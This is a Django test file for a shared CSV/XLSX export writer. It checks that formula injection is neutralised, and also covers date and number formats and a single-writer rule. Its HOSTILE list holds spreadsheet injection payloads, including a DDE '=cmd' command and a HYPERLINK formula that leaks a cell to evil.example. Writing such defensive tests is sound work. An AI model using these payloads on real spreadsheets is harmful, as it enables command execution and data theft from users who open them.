"""The shared CSV/XLSX writer (core.exports): formats and formula neutralisation."""

import csv
import datetime
import io
import re
from decimal import Decimal
from pathlib import Path

from django.conf import settings
from django.test import SimpleTestCase, override_settings
from openpyxl import load_workbook

from core import exports

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")',
    "+31 6 1234",
    "-2+3",
    "\tnaam",
    "\rnaam",
]


def read_csv(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def read_xlsx(data: bytes):
    sheet = load_workbook(io.BytesIO(data)).active
    return sheet, [[cell.value for cell in row] for row in sheet.iter_rows()]


class NeutraliseTests(SimpleTestCase):
    def test_every_dangerous_start_gets_a_quote(self):
        for text in HOSTILE:
            self.assertEqual(exports.neutralise(text), "'" + text, repr(text))

    def test_ordinary_text_is_left_alone(self):
        for text in ("Alice's ROC", "a=b", "3 + 4", "naam@example.org", ""):
            self.assertEqual(exports.neutralise(text), text)


class CsvTests(SimpleTestCase):
    def test_hostile_cells_come_out_as_text(self):
        rows = read_csv(exports.csv_text(["Titel"], [[text] for text in HOSTILE]))
        self.assertEqual([row[0] for row in rows[1:]], ["'" + text for text in HOSTILE])
        for row in rows[1:]:
            self.assertFalse(row[0].startswith(exports.FORMULA_PREFIXES), row)

    def test_a_hostile_header_is_neutralised_too(self):
        rows = read_csv(exports.csv_text(["=1+1"], []))
        self.assertEqual(rows[0], ["'=1+1"])

    def test_machine_text_stays_as_stored(self):
        text = exports.csv_text(["a"], [["=1+1"]], bom=False, safe=False)
        self.assertEqual(text, "a\r\n=1+1\r\n")

    @override_settings(TIME_ZONE="Europe/Amsterdam")
    def test_dates_moments_and_numbers_have_one_format(self):
        moment = datetime.datetime(2026, 11, 29, 13, 5, 59, tzinfo=datetime.UTC)
        rows = read_csv(
            exports.csv_text(
                ["d", "m", "i", "f", "whole", "dec", "neg", "none"],
                [[datetime.date(2026, 11, 29), moment, 3, 4.5, 3.0, Decimal("12.50"), -2, None]],
            )
        )
        self.assertEqual(
            rows[1], ["2026-11-29", "2026-11-29 14:05", "3", "4.5", "3", "12.50", "-2", ""]
        )


class XlsxTests(SimpleTestCase):
    def test_hostile_cells_are_text_not_formulas(self):
        sheet, rows = read_xlsx(exports.xlsx_bytes(["Titel"], [[text] for text in HOSTILE]))
        for row in sheet.iter_rows(min_row=2):
            self.assertEqual(row[0].data_type, "s")
        # XML reads a carriage return back as a line feed.
        expected = ["'" + text.replace("\r", "\n") for text in HOSTILE]
        self.assertEqual([row[0] for row in rows[1:]], expected)

    def test_without_neutralising_openpyxl_would_write_a_formula(self):
        # Guards the test above: a bare "=…" string is stored as a formula.
        from openpyxl import Workbook

        sheet = Workbook().active
        sheet.append(["=cmd|' /C calc'!A0"])
        self.assertEqual(sheet["A1"].data_type, "f")

    @override_settings(TIME_ZONE="Europe/Amsterdam")
    def test_real_dates_and_numbers(self):
        moment = datetime.datetime(2026, 11, 29, 13, 5, tzinfo=datetime.UTC)
        sheet, rows = read_xlsx(
            exports.xlsx_bytes(
                ["Datum", "Moment", "Aantal", "Dagen"],
                [[datetime.date(2026, 11, 29), moment, 3, 4.5]],
                sheet_title="Deelnemers: [test]",
            )
        )
        self.assertEqual(sheet.title, "Deelnemers test")
        self.assertEqual(rows[0], ["Datum", "Moment", "Aantal", "Dagen"])
        self.assertEqual(rows[1][0], datetime.datetime(2026, 11, 29, 0, 0))
        self.assertEqual(rows[1][1], datetime.datetime(2026, 11, 29, 14, 5))
        self.assertEqual(rows[1][2:], [3, 4.5])
        self.assertTrue(sheet["A1"].font.bold)
        self.assertEqual(sheet["A2"].number_format, "yyyy-mm-dd")
        self.assertEqual(sheet.freeze_panes, "A2")

    def test_control_characters_do_not_break_the_workbook(self):
        _sheet, rows = read_xlsx(exports.xlsx_bytes(["t"], [["a\x00b\x07c"]]))
        self.assertEqual(rows[1], ["abc"])

    def test_a_control_character_cannot_hide_a_formula(self):
        sheet, rows = read_xlsx(exports.xlsx_bytes(["t"], [["\x00=1+1"]]))
        self.assertEqual(rows[1], ["'=1+1"])
        self.assertEqual(sheet["A2"].data_type, "s")


class OneWriterTests(SimpleTestCase):
    """Every spreadsheet the application writes goes through core.exports, so the
    neutralising above covers every CSV and XLSX download, including ones added
    later (issue 12, finding 3): no other module writes CSV or XLSX itself."""

    WRITERS = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bopenpyxl\b|\bxlsxwriter\b")

    def test_no_module_but_core_exports_writes_a_spreadsheet(self):
        root = Path(settings.BASE_DIR)
        offenders = []
        for path in root.rglob("*.py"):
            relative = path.relative_to(root)
            if relative.parts[0] in {".venv", "tests", "static", "node_modules"}:
                continue
            if relative == Path("core/exports.py"):
                continue
            if self.WRITERS.search(path.read_text(encoding="utf-8")):
                offenders.append(str(relative))
        self.assertEqual(offenders, [])
